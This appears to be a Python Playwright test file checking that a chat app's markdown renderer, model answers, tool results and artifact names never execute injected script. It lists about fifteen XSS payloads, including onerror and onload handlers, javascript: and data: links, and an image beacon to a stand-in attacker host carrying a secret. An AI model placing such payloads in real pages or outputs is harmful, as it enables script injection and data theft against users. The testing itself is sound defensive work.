"""Script in a model's answer, a tool's result or an artifact's name never runs.

Each payload sets a window flag (`__xss_*`) if it ever executes; each test asserts that
no flag is set and that no element a payload would bring (img, script, iframe, svg,
object, a javascript: or data: link) is in the page. Markdown is rendered by
frontend/static/frontend/markdown.js (raw HTML shown as text, DOMPurify, safe links);
everything else is built as text nodes (dom.js). tests/security/test_html_sinks.py keeps
the pages' modules from writing HTML any other way. Browser tests live here, not in
tests/security/, because sync Playwright cannot share pytest-asyncio's process.
"""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.pages import send, start_session

pytestmark = pytest.mark.browser

PAYLOADS = [
    '<img src=x onerror="window.__xss_img=1">',
    "<script>window.__xss_script=1</script>",
    '<iframe srcdoc="<script>parent.__xss_iframe=1</script>"></iframe>',
    '<svg onload="window.__xss_svg=1"><circle r=1></circle></svg>',
    "<details open ontoggle=window.__xss_toggle=1>x</details>",
    "[click me](javascript:window.__xss_link=1)",
    "[click me too](JaVaScRiPt:window.__xss_case=1)",
    "[encoded](javascript&#58;window.__xss_entity=1)",
    "[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3NfZGF0YT0xPC9zY3JpcHQ+)",
    "![pic](javascript:window.__xss_image=1)",
    "![pixel](https://attacker.invalid/collect?secret=1)",
    "<javascript:window.__xss_autolink=1>",
    "[reference][evil]\n\n[evil]: javascript:window.__xss_reference=1",
    '<a href="javascript:window.__xss_rawlink=1">raw link</a>',
    "<math><mi xlink:href=javascript:window.__xss_math=1>m</mi></math>",
]
DANGEROUS = (
    "img, script, iframe, svg, math, object, embed, details[ontoggle], "
    "[onerror], [onload], [ontoggle], "
    'a[href^="javascript:" i], a[href^="data:" i], a[href*="attacker.invalid"]:not([target="_blank"])'
)
FLAGS = "() => Object.keys(window).filter((key) => key.startsWith('__xss'))"


def answers(page: Page):
    return page.locator("#timeline li.kind-text.agent:not(.streaming) .bubble-text")


def click_every_link(page: Page, scope: str) -> None:
    """A link the payload left must not run script when followed either."""
    for link in page.locator(f"{scope} a").all():
        href = link.get_attribute("href") or ""
        assert href.startswith(("http://", "https://", "mailto:")), href


RENDER_SCRIPT = """
async (payloads) => {
  const { renderInlineMarkdown, renderMarkdown } = await import("/static/frontend/markdown.js");
  const box = document.createElement("div");
  box.id = "rendered";
  document.body.append(box);
  for (const payload of payloads) {
    box.append(renderMarkdown(payload), renderInlineMarkdown(payload));
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return {
    text: box.textContent,
    hrefs: [...box.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.target, a.rel]),
  };
}
"""


def test_markdown_never_runs_a_payload(browser, server):
    context = browser.new_context(base_url=server.url)
    page = context.new_page()
    page.goto("/login/")

    shown = page.evaluate(RENDER_SCRIPT, PAYLOADS)

    assert page.evaluate(FLAGS) == []
    assert page.locator(f"#rendered :is({DANGEROUS})").count() == 0
    # Raw HTML is shown as written, so a reader sees what the model tried.
    assert '<img src=x onerror="window.__xss_img=1">' in shown["text"]
    # The one link kept is the remote image's, as a link: never loaded, opened apart.
    assert {tuple(href) for href in shown["hrefs"]} == {
        (
            "https://attacker.invalid/collect?secret=1",
            "_blank",
            "noopener noreferrer",
        )
    }
    context.close()


def test_payloads_in_a_model_answer_never_run(sign_in):
    page = sign_in("alice")
    start_session(page, "preferences")
    # The offline model repeats what it does not understand, payloads included.
    send(page, "Look:\n\n" + "\n\n".join(PAYLOADS))

    expect(answers(page).last).to_contain_text("You said: Look:")
    expect(answers(page).last).to_contain_text("<script>window.__xss_script=1</script>")
    page.wait_for_timeout(300)

    assert page.evaluate(FLAGS) == []
    assert page.locator(f"#timeline :is({DANGEROUS})").count() == 0
    click_every_link(page, "#timeline .markdown")


def test_payloads_in_a_tool_result_never_run(sign_in):
    page = sign_in("alice")
    start_session(page, "weather_sentiment")
    # The quoted text becomes the city; the tool's error repeats it, and so does
    # the model's answer.
    city = (
        "<img src=x onerror=window.__xss_tool=1> "
        "[more](javascript:window.__xss_tool_link=1) "
        "<svg onload=window.__xss_tool_svg=1>"
    )
    send(page, f'weather in "{city}"')

    card = page.locator('.card.call[data-tool="get_weather_report"]')
    expect(card).to_have_attribute("data-status", re.compile("ok|error"))
    expect(answers(page).last).to_contain_text("is not available")
    expect(answers(page).last).to_contain_text(
        "<img src=x onerror=window.__xss_tool=1>"
    )
    card.locator("summary, header").first.click()
    page.wait_for_timeout(300)

    assert page.evaluate(FLAGS) == []
    assert page.locator(f"#timeline :is({DANGEROUS})").count() == 0
    click_every_link(page, "#timeline .markdown")


def test_payloads_in_artifact_names_never_run(sign_in, api):
    page = sign_in("alice")
    session = start_session(page, "document_analyst")
    names = [
        "<img src=x onerror=window.__xss_artifact=1>.txt",
        "<svg onload=window.__xss_artifact_svg=1>.md",
        "[x](javascript:window.__xss_artifact_link=1).md",
    ]
    client = api("alice")
    for name in names:
        response = client.post(
            f"/api/sessions/{session}/artifacts/",
            files={"file": ("upload.txt", b"hello", "text/plain")},
            data={"name": name},
        )
        assert response.status_code == 201, response.text

    for name in names:
        expect(page.locator("#artifacts")).to_contain_text(name)
        expect(page.locator("#timeline")).to_contain_text(name)
    page.wait_for_timeout(300)

    assert page.evaluate(FLAGS) == []
    assert (
        page.locator(f"#artifacts :is({DANGEROUS}), #timeline :is({DANGEROUS})").count()
        == 0
    )
